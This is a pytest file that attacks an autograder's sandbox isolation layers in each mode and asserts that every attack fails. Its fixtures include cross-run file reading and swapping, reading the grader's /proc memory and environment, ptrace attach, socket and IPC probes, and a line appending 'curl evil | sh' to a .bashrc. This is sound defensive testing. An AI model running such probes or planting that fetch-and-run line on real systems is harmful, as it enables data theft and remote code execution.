"""The isolation layers of issue 8, attacked in every available mode.

``test_sandbox.py`` holds the limits and the classic attacks; this file holds what
the layers (Landlock, seccomp, a uid per run, a zygote that never reads a
request) must stop: one run reaching another run, the grader's own rights and
memory, and the refusal to run where nothing would stop it. Every attack runs in
the same batch as a correct control that must still earn its result. Run as root
and, through ``test_sandbox_unprivileged.py``, as an unprivileged user.
"""

from __future__ import annotations

import ctypes
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import torch

import autograder.sandbox as sandbox_module
from autograder.sandbox import RunResult, Sandbox, SandboxError, bwrap_problem, seccomp
from autograder.sandbox.isolation import confined, describe, landlock_abi
from autograder.sandbox.zygote import read_paths

ROOT = Path(__file__).resolve().parents[1]
REFERENCE = ROOT / "reference" / "hw9" / "answers.yaml"
IS_ROOT = os.geteuid() == 0
MODES = [
    *(["bwrap"] if bwrap_problem() is None else []),
    *(["landlock"] if landlock_abi() else []),
    "rlimits",
]

HEADER = "import ctypes, glob, json, os, signal, socket, sys, time\nimport torch\nimport torch.nn as nn\n"


def _module(body: str, forward: str = "return x * 2") -> str:
    """``body`` runs at import and stores what it found in FOUND; class M reports it."""
    return (
        HEADER
        + "FOUND = []\n"
        + textwrap.dedent(body)
        + "\n\nclass M(nn.Module):\n"
        + "    def __init__(self):\n        super().__init__()\n        self.found = json.dumps(FOUND)\n"
        + f"    def forward(self, x):\n        {forward}\n"
    )


def _run(sandbox: Sandbox, source: str, **payload: Any) -> RunResult:
    return sandbox.run(
        "module",
        source,
        {"class_name": "M", "calls": [{"args": [[1.0, 2.0]]}], "attributes": ["found"], **payload},
    )


def _found(result: RunResult) -> list[Any]:
    assert result.status == "ok", result
    found: list[Any] = json.loads(result.value["attributes"]["found"])
    return found


def _confined(sandbox: Sandbox) -> bool:
    return sandbox.mode == "bwrap" or "landlock" in sandbox.isolation


@pytest.fixture(scope="module", params=MODES)
def pair(request: pytest.FixtureRequest) -> Iterator[tuple[Sandbox, Sandbox]]:
    """Two sandboxes of one mode, as two grading workers (``--jobs 2``) have."""
    with (
        Sandbox(mode=request.param, allow_unconfined=True) as first,
        Sandbox(mode=request.param, allow_unconfined=True) as second,
    ):
        yield first, second


def _skip_unless(sandbox: Sandbox, needs: str) -> None:
    if needs == "filesystem" and not _confined(sandbox):
        pytest.skip("without Landlock or mount namespaces the filesystem is not isolated")
    if needs == "rights" and not _confined(sandbox) and not IS_ROOT:
        pytest.skip("not root, without Landlock or namespaces: runs keep the grader's rights (refused by default)")


# ---------------------------------------------------------------- one run against another


VICTIM = _module(
    """
    open("secret.txt", "w").write("VICTIM-SECRET")
    time.sleep(2.5)
    FOUND.append(open("secret.txt").read())
    FOUND.append(open(__file__).read().count("VICTIM"))
    """
)

ATTACKER = _module(
    """
    me = os.getpid()
    # Every other process near our pid that we could signal (signal 0 only tests).
    for pid in range(max(2, me - 3000), me + 3000):
        if pid == me:
            continue
        try:
            os.kill(pid, 0)
        except OSError:
            continue
        FOUND.append(["signal", pid])
    # Every file of another run we could read or replace.
    for root in glob.glob("/tmp/autograder-sandbox-*") + ["/tmp"]:
        for n in range(1, 40):
            for name in ("secret.txt", "submission.py"):
                path = f"{root}/run-{n}/{name}"
                if os.path.realpath(path).startswith(os.getcwd() + "/"):
                    continue  # our own folder
                try:
                    FOUND.append(["read", path, open(path).read()[:40]])
                except OSError:
                    pass
                try:
                    open(path, "w").write("class M: pass")
                    FOUND.append(["swapped", path])
                except OSError:
                    pass
    """
)


def test_a_run_can_neither_signal_nor_read_nor_swap_another_workers_run(pair: tuple[Sandbox, Sandbox]) -> None:
    victim_box, attacker_box = pair
    _skip_unless(attacker_box, "rights")
    results: dict[str, RunResult] = {}
    victim = threading.Thread(target=lambda: results.setdefault("victim", _run(victim_box, VICTIM)))
    victim.start()
    threading.Event().wait(0.8)  # the victim is asleep in its folder now
    results["attacker"] = _run(attacker_box, ATTACKER)
    victim.join()

    assert _found(results["attacker"]) == []
    assert _found(results["victim"]) == ["VICTIM-SECRET", 2]  # the control: untouched, and right
    assert results["victim"].value["outputs"][0]["values"] == [2.0, 4.0]
    if IS_ROOT:
        assert _uid(results["victim"]) != _uid(results["attacker"])


def test_every_run_gets_a_uid_of_its_own(pair: tuple[Sandbox, Sandbox]) -> None:
    if not IS_ROOT:
        pytest.skip("not root: runs cannot switch users")
    first, second = pair
    uids = {_uid(sandbox.run("echo", "", {})) for sandbox in (first, second, first, second)}

    assert len(uids) == 4
    assert all(uid >= 200_000 for uid in uids)


def _uid(result: RunResult) -> int:
    found = re.search(r"\buid(\d+)\b", result.isolation)
    assert found is not None, result.isolation
    return int(found.group(1))


# ---------------------------------------------------------------- the grader's own rights


def test_the_grader_s_environment_and_command_line_stay_out_of_reach(pair: tuple[Sandbox, Sandbox]) -> None:
    sandbox = pair[0]
    _skip_unless(sandbox, "filesystem")
    grader = os.getpid()
    spy = f"""
    for name in ("environ", "cmdline", "mem", "maps"):
        try:
            FOUND.append([name, open("/proc/{grader}/" + name, "rb").read(200).decode(errors="replace")])
        except OSError:
            pass
    """
    assert _found(_run(sandbox, _module(spy))) == []


def test_the_instructor_s_files_cannot_be_changed(pair: tuple[Sandbox, Sandbox], tmp_path: Path) -> None:
    sandbox = pair[0]
    _skip_unless(sandbox, "rights")
    tmp_path.chmod(0o755)
    bashrc = tmp_path / ".bashrc"
    bashrc.write_text("# the instructor's\n")
    bashrc.chmod(0o644)
    attack = f"""
    try:
        open({str(bashrc)!r}, "a").write("curl evil | sh\\n")
        FOUND.append("appended")
    except OSError:
        pass
    """
    assert _found(_run(sandbox, _module(attack))) == []
    assert bashrc.read_text() == "# the instructor's\n"


def test_the_grader_cannot_be_traced(pair: tuple[Sandbox, Sandbox]) -> None:
    sandbox = pair[0]
    if not seccomp.supported():
        pytest.skip("no seccomp table for this architecture")
    attack = f"""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, {os.getpid()}, 0, 0) == 0:  # PTRACE_ATTACH
        FOUND.append("attached")
    if libc.ptrace(16, os.getppid(), 0, 0) == 0:
        FOUND.append("attached to the zygote")
    """
    assert _found(_run(sandbox, _module(attack))) == []


NETWORK = """
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET6, ("::1", PORT))):
    try:
        socket.socket(family, socket.SOCK_STREAM).connect(address)
        FOUND.append(["connected", address])
    except OSError:
        pass
# UNIX sockets: Landlock does not control connect() to a socket file (docker.sock, an ssh agent).
for address in ("\\0autograder-test-abstract", PATH):
    try:
        socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect(address)
        FOUND.append(["connected", address])
    except OSError:
        pass
try:
    socket.socketpair()  # still allowed: multiprocessing and friends use it
except OSError:
    FOUND.append("no socketpair")
"""


def test_no_socket_reaches_the_grader_s_machine(pair: tuple[Sandbox, Sandbox], tmp_path: Path) -> None:

    sandbox = pair[0]
    tmp_path.chmod(0o777)
    path = tmp_path / "agent.sock"
    with (
        socket.socket() as listener,
        socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as abstract,
        socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as on_disk,
    ):
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        abstract.bind("\0autograder-test-abstract")
        abstract.listen()
        on_disk.bind(str(path))
        on_disk.listen()
        path.chmod(0o777)  # even a socket anyone may write to
        port = listener.getsockname()[1]
        attack = NETWORK.replace("PORT", str(port)).replace("PATH", repr(str(path)))
        assert _found(_run(sandbox, _module(attack))) == []


SYSV_IPC = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.shmget(0, 4096, 0o1666) >= 0:  # IPC_PRIVATE | IPC_CREAT | 0666: it would outlive the run
    FOUND.append("shared memory")
if libc.semget(0, 1, 0o1666) >= 0:
    FOUND.append("semaphore")
if libc.msgget(0, 0o1666) >= 0:
    FOUND.append("message queue")
"""


def test_no_ipc_object_outlives_the_run(pair: tuple[Sandbox, Sandbox]) -> None:
    assert _found(_run(pair[0], _module(SYSV_IPC))) == []


# ---------------------------------------------------------------- memory and files the zygote keeps


def _zygote_python(sandbox: Sandbox) -> int:
    """The zygote's interpreter (inside bwrap it is a descendant of the bwrap process)."""
    pid = sandbox.zygote_pid
    assert pid is not None
    for _ in range(4):
        cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
        if b"autograder.sandbox.zygote" in cmdline:
            return pid
        children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
        assert children, f"no zygote below {pid}"
        pid = int(children[0])
    raise AssertionError("zygote not found")


def _memory_holds(pid: int, marker: bytes) -> bool:
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in maps:
            span, permissions = line.split()[:2]
            if not permissions.startswith("rw"):
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            try:
                memory.seek(start)
                if marker in memory.read(end - start):
                    return True
            except (OSError, OverflowError, ValueError):
                continue
    return False


@pytest.mark.skipif(not IS_ROOT, reason="only root may read the (non-dumpable) zygote's memory")
def test_the_warm_process_never_holds_a_student_s_code(pair: tuple[Sandbox, Sandbox]) -> None:
    sandbox = pair[0]
    marker = f"SECRET-{uuid.uuid4().hex}"
    result = _run(sandbox, _module(f"FOUND.append({marker!r}[:6])"))
    assert _found(result) == ["SECRET"]

    assert _memory_holds(os.getpid(), marker.encode())  # the scan finds what is there
    assert not _memory_holds(_zygote_python(sandbox), marker.encode())


def test_a_hidden_source_has_no_file_to_read(pair: tuple[Sandbox, Sandbox]) -> None:
    sandbox = pair[0]
    spy = """
    FOUND.append(sorted(os.listdir(".")))
    try:
        FOUND.append(open(__file__).read()[:20])
    except OSError as error:
        FOUND.append(type(error).__name__)
    """
    result = sandbox.run(
        "module",
        _module(spy),
        {"class_name": "M", "attributes": ["found"]},
        filename="mha.py",
        hide_source=True,
    )
    assert _found(result) == [[], "FileNotFoundError"]

    failing = sandbox.run("module", "x = 1\nraise ValueError('blank (b)')\n", {"class_name": "M"}, hide_source=True)
    assert failing.status == "error"
    assert "line 2" in failing.traceback and "raise ValueError" not in failing.traceback


def test_a_run_inherits_no_descriptor_but_stdio_and_its_result_pipe(pair: tuple[Sandbox, Sandbox]) -> None:
    # The zygote holds the grader's socket (the next student's request comes on it),
    # its answer pipe and whatever torch opened: none of it may reach student code.
    spy = """
    import stat
    for fd in range(3, 1024):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        FOUND.append([fd, "pipe" if stat.S_ISFIFO(mode) else "socket" if stat.S_ISSOCK(mode) else "other"])
    """
    found = _found(_run(pair[0], _module(spy)))

    assert [kind for _, kind in found] == ["pipe"]  # the result pipe, and nothing else


LITTER = """
fd = os.open(".", os.O_RDONLY)
for _ in range(3000):  # deeper than Python's recursion limit and PATH_MAX
    os.mkdir("d", dir_fd=fd)
    child = os.open("d", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = child
os.mkdir("trap")
open("trap/big", "wb").write(b"x" * 2**20)
os.chmod("trap", 0)
FOUND.append("littered")
"""


def test_whatever_a_run_builds_in_its_folder_is_removed_and_the_next_run_works(pair: tuple[Sandbox, Sandbox]) -> None:
    sandbox = pair[0]
    assert _found(_run(sandbox, _module(LITTER))) == ["littered"]
    assert _found(_run(sandbox, _module("FOUND.append('next')"))) == ["next"]  # the control

    run_root = sandbox._host_run_root  # bwrap keeps its runs in a private tmpfs instead
    if run_root is not None:
        assert os.listdir(run_root) == []


@pytest.mark.skipif(not IS_ROOT, reason="leftovers are found by the run's own uid")
def test_without_landlock_what_a_run_leaves_in_tmp_is_removed() -> None:
    leftover = Path(f"/tmp/sandbox-leftover-{uuid.uuid4().hex}")
    with Sandbox(mode="rlimits") as sandbox:
        result = _run(sandbox, _module(f"open({str(leftover)!r}, 'w').write('x')\nFOUND.append(1)"))

    assert _found(result) == [1]
    assert not leftover.exists()


# ---------------------------------------------------------------- refusing to run unconfined


def test_an_unconfined_sandbox_refuses_to_run() -> None:
    with Sandbox(mode="rlimits", allow_unconfined=False) as sandbox:
        result = _run(sandbox, _module("FOUND.append(1)"))

    if IS_ROOT:  # a uid of its own keeps the run from root's rights
        assert _found(result) == [1]
    else:
        assert result.status == "refused"
        assert result.error_type == "unconfined"
        assert "--allow-unconfined-code" in result.error_message
        assert "UNCONFINED" in result.isolation


CONFINEMENT = [
    ("bwrap", 0, False, True),
    ("landlock", 7, False, True),
    ("rlimits", 0, True, True),
    ("rlimits", 0, False, False),
]


@pytest.mark.parametrize(("mode", "abi", "uid", "expected"), CONFINEMENT)
def test_confinement_needs_one_layer_that_holds(mode: Any, abi: int, uid: bool, expected: bool) -> None:
    assert confined(mode, landlock_abi=abi, uid=uid) is expected
    described = describe(mode, landlock_abi=abi, seccomp=True, uid="uid200017" if uid else None)
    assert ("UNCONFINED" in described) is not expected


def test_the_isolation_string_names_each_layer() -> None:
    described = describe("landlock", landlock_abi=7, seccomp=True, uid="uid200017")
    assert described == "landlock(abi7)+seccomp+uid200017+rlimits"


# ---------------------------------------------------------------- the layers' own data


def test_confined_runs_may_read_python_and_torch_but_not_the_project() -> None:
    paths = read_paths()
    assert not any(str(ROOT) == path or str(ROOT).startswith(path.rstrip("/") + "/") for path in paths)

    assert any(str(Path(torch.__file__).resolve()).startswith(path + "/") for path in paths)


HEADERS = {
    "x86_64": (Path("/usr/include/x86_64-linux-gnu/asm/unistd_64.h"), r"#define __NR_(\w+)\s+(\d+)"),
    "aarch64": (Path("/usr/include/asm-generic/unistd.h"), r"#define __NR(?:3264)?_(\w+)\s+(\d+)"),
}


@pytest.mark.parametrize("machine", sorted(seccomp.ARCHES))
def test_the_seccomp_numbers_match_the_kernel_headers(machine: str) -> None:
    header, pattern = HEADERS[machine]
    if not header.exists():
        pytest.skip(f"{header} is not installed")
    numbers = {name: int(number) for name, number in re.findall(pattern, header.read_text())}
    table = seccomp.ARCHES[machine][1]

    assert {name: numbers.get(name) for name in table} == table


def test_the_filter_lists_every_denied_call_for_every_architecture() -> None:
    for _, table in seccomp.ARCHES.values():
        assert set(seccomp.DENIED) <= set(table)
        assert {"clone", "clone3", "socket", "socketpair"} <= set(table)
    assert len(seccomp.program("x86_64")) < 256  # classic BPF jumps are 8-bit


def test_landlock_reports_its_abi() -> None:
    assert landlock_abi() == max(0, int(ctypes.CDLL(None).syscall(444, None, 0, 1)))


# ---------------------------------------------------------------- a whole batch, in every mode


SUBMISSIONS = ROOT / "submissions"


@pytest.mark.parametrize("mode", MODES)
def test_a_hostile_batch_in_every_mode_leaves_the_control_its_full_marks(mode: str, tmp_path: Path) -> None:

    batch = tmp_path / "batch"
    for name in ("01-perfect-plain", "09-hostile-code"):
        shutil.copytree(SUBMISSIONS / name, batch / name)
    out = tmp_path / "out"
    planted = Path("/tmp/hostile-was-here")  # what 09's q3.b tries to write
    planted.unlink(missing_ok=True)
    command = [sys.executable, "-m", "autograder", "grade", str(batch), "--out", str(out), "--jobs", "2"]
    command += ["--problems", str(ROOT / "problems" / "hw9"), "--reference", str(ROOT / "reference" / "hw9")]
    env = {**os.environ, "AUTOGRADER_SANDBOX": mode}
    env.pop("AUTOGRADER_ALLOW_UNCONFINED", None)
    completed = subprocess.run(command, env=env, capture_output=True, text=True, timeout=300, check=False)
    assert completed.returncode == 0, completed.stderr[-2000:]

    control = json.loads((out / "01-perfect-plain" / "results.json").read_text())
    hostile = json.loads((out / "09-hostile-code" / "results.json").read_text())
    isolation = control["extra_data"]["isolation"]
    assert isolation.startswith("bwrap" if mode == "bwrap" else "landlock" if mode == "landlock" else "seccomp")
    assert not planted.exists()
    if "UNCONFINED" in isolation:  # not root, no layer: nothing runs (blanks equal to the key need no run)
        refused = [t for t in control["tests"] if "Student code was not run" in t["output"]]
        assert "q3.b" in {t["extra_data"]["id"] for t in refused}
        assert all(t["extra_data"]["verdict"] == "needs_review" for t in refused)
    else:
        assert control["score"] == 41
        assert hostile["score"] == 2  # q3.a.g and q4.e, its only honest answers


@pytest.mark.parametrize("mode", [mode for mode in MODES if mode != "bwrap"])  # bwrap's runs live in its tmpfs
def test_a_grader_that_dies_leaves_no_run_folder(mode: str) -> None:

    # A grading worker ends with os._exit: no atexit, no close(); the zygote cleans up itself.
    script = (
        "import os, sys\nfrom autograder.sandbox import Sandbox\n"
        f"s = Sandbox(mode={mode!r}, allow_unconfined=True)\ns.start()\ns.run('echo', '', {{}})\n"
        "print(s._host_run_root, flush=True)\nos._exit(0)\n"
    )
    completed = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=120)
    run_root = Path(completed.stdout.strip())
    assert run_root.name.startswith("autograder-sandbox-"), completed.stderr
    for _ in range(100):
        if not run_root.exists():
            break
        time.sleep(0.05)
    assert not run_root.exists()


@pytest.mark.skipif(not IS_ROOT, reason="only root switches uids")
def test_without_a_free_block_of_uids_nothing_runs_as_root(monkeypatch: pytest.MonkeyPatch) -> None:

    monkeypatch.setattr(sandbox_module, "claim_uid_base", lambda: None)
    sandbox = Sandbox(mode="rlimits")
    with pytest.raises(SandboxError, match="in use or taken"):
        sandbox.run("echo", "", {})
    sandbox.close()
